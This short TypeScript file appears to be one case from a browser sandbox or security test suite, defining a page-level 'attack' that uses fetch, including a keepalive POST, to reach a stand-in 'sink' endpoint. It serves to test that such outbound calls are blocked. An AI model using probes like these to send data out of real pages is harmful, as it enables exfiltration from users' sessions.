import type { PageAttack } from "../attack.ts";

export const attack: PageAttack = {
  from: "app page",
  what: "fetch",
  script: `
    await fetch(sink + "?fetch", { mode: "no-cors" }).catch(() => {});
    await fetch(sink + "?keepalive", { mode: "no-cors", keepalive: true, method: "POST", body: "x" }).catch(() => {});
  `,
};
